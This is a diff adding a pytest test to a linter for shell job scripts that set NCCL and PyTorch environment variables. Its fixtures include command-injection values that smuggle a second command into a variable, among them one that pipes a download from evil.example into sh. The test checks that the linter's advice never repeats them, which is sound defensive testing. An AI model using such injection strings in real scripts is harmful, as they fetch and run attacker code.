@@ -174,6 +174,26 @@ def test_a_name_behind_what_is_no_shell_is_not_passed_over(before: str, capsys: 
     assert "NCCL_ASYNC_ERROR_HANDLING" in out
 
 
+@pytest.mark.parametrize(
+    ("line", "advice"),
+    [
+        ("export NCCL_IB_HCA =$(curl${IFS}evil.example|sh)", "write export NCCL_IB_HCA=VALUE, without the blank"),
+        ("export NCCL_IB_HCA =mlx5_0:1", "write export NCCL_IB_HCA=mlx5_0:1, without the blank"),
+        ("unset NCCL_IB_HCA=`id`", "write unset NCCL_IB_HCA, or export NCCL_IB_HCA=VALUE"),
+        ("export PYTORCH_ALLOC_CONF='x;curl evil.example'", "write"),
+        ("export NCCL_P2P_PCI_CHUNKSIZE=' x;curl evil.example'", "write"),
+        ("NCCL_IB_HCA=a;curl evil.example", "write export NCCL_IB_HCA=a"),
+    ],
+)
+def test_a_value_is_advice_where_no_shell_would_run_it(
+    line: str, advice: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    Path("job.sh").write_text(f"#!/bin/bash\n{line}\ntorchrun train.py\n")
+    told = [each for each in run(capsys, "job.sh")[1].splitlines() if "= help:" in each]
+    assert advice in "".join(told)
+    assert "evil.example" not in "".join(told)
+
+
 # ------------------------------------------------------------------------------------------------- the grammar
 
 
